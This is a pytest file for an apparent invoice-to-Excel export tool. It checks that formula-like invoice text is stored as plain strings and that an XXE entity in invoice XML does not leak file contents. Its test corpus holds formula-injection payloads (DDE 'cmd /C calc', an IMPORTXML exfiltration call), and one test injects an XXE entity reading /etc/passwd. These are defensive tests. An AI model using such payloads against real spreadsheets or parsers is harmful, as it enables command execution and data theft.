"""Formula-like text from invoices (seller and buyer names, line descriptions, numbers) stays text."""

from __future__ import annotations

import re
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from ksef_sheets.config import OfficeFolder
from ksef_sheets.sheets.invoice_columns import H_CP_NAME, H_ITEMS, H_KSEF, H_NUMBER
from ksef_sheets.sheets.invoice_refresh import refresh_invoice_workbooks
from ksef_sheets.sync.archive import Archive
from tests.sheets.factory import CLIENT_NIP, archive_invoices, purchase, sale

CORPUS = [
    '=HYPERLINK("http://x","y")',
    "+48 600",
    "-1",
    "@SUM(A1)",
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    "-2+3+cmd|' /C calc'!A0",
    "'=już z apostrofem",
    '=IMPORTXML(CONCAT("http://x/?", A1), "//a")',
    "+SUM(1;2)",
    "@",
    "=",
]


def _cells(ws, header: str) -> list:  # type: ignore[no-untyped-def,type-arg]
    col = next(c.column for c in ws[1] if c.value == header)
    return [ws.cell(r, col) for r in range(2, ws.max_row + 1) if ws.cell(r, 1).value]


@pytest.mark.parametrize("round_trips", [1, 2])
def test_corpus_stays_text_in_every_sheet(office: OfficeFolder, archive: Archive, round_trips: int) -> None:
    invoices = []
    for i, text in enumerate(CORPUS):
        lines = [(text, Decimal("10.00"), "23"), (f"pozycja {i}", Decimal("1.00"), "23")]
        invoices.append(purchase(f"{text}" if i % 2 else f"FZ/{i}", date(2026, 2, 1 + i), text, lines=lines))
        invoices.append(sale(f"FS/{i}", date(2026, 2, 1 + i), text, lines=lines))
    archive_invoices(archive, invoices)
    for _ in range(round_trips):  # the second run reads the workbook back and writes it again
        report = refresh_invoice_workbooks(office, force=True)
        assert report.ok, report.messages()
    path = office.invoice_workbook(CLIENT_NIP, 2026)

    wb = load_workbook(path)
    for sheet in ("Zakupy", "Sprzedaż"):
        ws = wb[sheet]
        names = _cells(ws, H_CP_NAME)
        assert sorted(c.value for c in names) == sorted(CORPUS)
        assert all(c.data_type == "s" for c in names)
        items = _cells(ws, H_ITEMS)
        assert {c.value.split("; ")[0] for c in items} == set(CORPUS)
        assert all(c.data_type == "s" for c in items)
        numbers = [c for c in _cells(ws, H_NUMBER) if c.value in CORPUS]
        assert all(c.data_type == "s" for c in numbers)
        assert len(_cells(ws, H_KSEF)) == len(CORPUS)
    # No formula anywhere in the package: not in the register sheets, the summary or the snapshot.
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not re.search(rb"<f[ >]", package.read(name)), name


def test_control_characters_are_dropped_not_fatal(office: OfficeFolder, archive: Archive) -> None:
    # XML 1.0 cannot carry most control characters, but a bell in a name must not break the workbook.
    archive_invoices(archive, [purchase("FZ/1", date(2026, 2, 1), "ACME\u0007 =1+1")])
    assert refresh_invoice_workbooks(office).ok
    ws = load_workbook(office.invoice_workbook(CLIENT_NIP, 2026))["Zakupy"]
    (cell,) = _cells(ws, H_CP_NAME)
    assert cell.value in ("ACME =1+1", "ACME\u0007 =1+1".replace("\u0007", ""))


def test_hostile_xml_gets_a_metadata_row_and_a_warning(office: OfficeFolder, archive: Archive) -> None:
    from ksef_sheets.sync.archive import IncomingInvoice, sha256_b64
    from tests.sheets.factory import ksef_number_for, metadata

    invoice = purchase("FZ/XXE", date(2026, 2, 3), "=Evil()")
    xml = (
        invoice.xml()
        .replace(
            b"<Faktura ",
            b'<!DOCTYPE Faktura [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<Faktura ',
            1,
        )
        .replace(b"<P_2>FZ/XXE</P_2>", b"<P_2>&xxe;</P_2>")
    )
    number = ksef_number_for(invoice.seller_nip, invoice.issue_date)
    from datetime import UTC, datetime

    meta = metadata(invoice, number, datetime(2026, 2, 3, 9, 0, tzinfo=UTC), xml)
    assert meta["invoiceHash"] == sha256_b64(xml)
    result = archive.add_invoices(CLIENT_NIP, "Subject2", [IncomingInvoice(number, xml, meta)])
    assert result.new == [number]

    report = refresh_invoice_workbooks(office)
    (workbook,) = report.workbooks
    assert workbook.written
    assert any(number in w and "tylko dane z metadanych" in w for w in workbook.warnings), workbook.warnings
    ws = load_workbook(workbook.path)["Zakupy"]
    (name,) = _cells(ws, H_CP_NAME)
    (invoice_number,) = _cells(ws, H_NUMBER)
    assert name.value == "=Evil()" and name.data_type == "s"
    assert invoice_number.value == "FZ/XXE"  # from KSeF's metadata, not the entity
    with zipfile.ZipFile(workbook.path) as package:
        assert not any(b"root:" in package.read(n) for n in package.namelist())
